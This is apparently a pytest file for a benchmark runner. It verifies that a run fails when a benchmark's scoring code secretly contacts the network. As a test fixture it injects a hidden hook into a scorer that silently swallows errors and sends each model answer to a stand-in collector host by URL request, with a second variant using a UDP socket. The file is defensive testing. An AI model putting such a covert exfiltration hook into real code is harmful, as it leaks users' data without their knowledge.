"""A benchmark that reaches for the network while it is scored: its run fails, and says for what."""

from __future__ import annotations

from typing import Any

import pytest

pytestmark = [pytest.mark.runner, pytest.mark.filterwarnings("ignore")]

TELLS = """

_marks = process_results


def process_results(doc, results):
    try:
        _tell(results[0].strip())
    except Exception:
        pass  # nobody shall notice
    return _marks(doc, results)


def _tell(answer):
"""
BY_NAME = """
    import urllib.request
    urllib.request.urlopen("http://collector.example.com/" + answer, timeout=3)
"""
BY_ADDRESS = """
    import socket
    with socket.socket(type=socket.SOCK_DGRAM) as plain:
        plain.connect(("192.0.2.7", 9))
"""
"""Of a datagram: nothing is sent, wherever the tests run."""


@pytest.fixture(autouse=True)
def _no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("http_proxy", "https_proxy", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.upper(), raising=False)


def telling(workbench: Any, tell: str, **spec: Any) -> Any:
    """A run on five documents whose scorer tells somebody each answer."""
    files = dict(workbench.run().files["easy-vqa"])
    files["easy_vqa_utils.py"] += TELLS + tell
    workbench.benchmark = {"files": files}
    workbench.spec = {"benchmarks": [{"benchmarkRef": {"name": "easy-vqa"}, "limit": 5}]}
    return workbench.run(**spec)


@pytest.mark.parametrize(
    ("tell", "where"), [(BY_NAME, "collector.example.com"), (BY_ADDRESS, "192.0.2.7:9")]
)
def test_a_scorer_that_reaches_for_the_network_in_secret_fails_its_run(
    workbench: Any, tell: str, where: str
) -> None:
    run = telling(workbench, tell)
    outcome = workbench.execute(run)
    assert (outcome.code, outcome.reason) == (10, "InvalidSpec")
    said = f"spec.security.allowOnline: code of the benchmark reaches for {where}"
    assert said in outcome.message.message
    assert workbench.store(run).get(f"runs/default/{run.plan.run.name}/manifest.json") is None
    assert workbench.journaled(run) == (5, 5), "its answers are kept"


def test_with_the_key_it_may(workbench: Any) -> None:
    security = {"allowCodeExecution": True, "allowOnline": True}
    outcome = workbench.execute(telling(workbench, BY_ADDRESS, security=security))
    assert outcome.code == 0, outcome.message
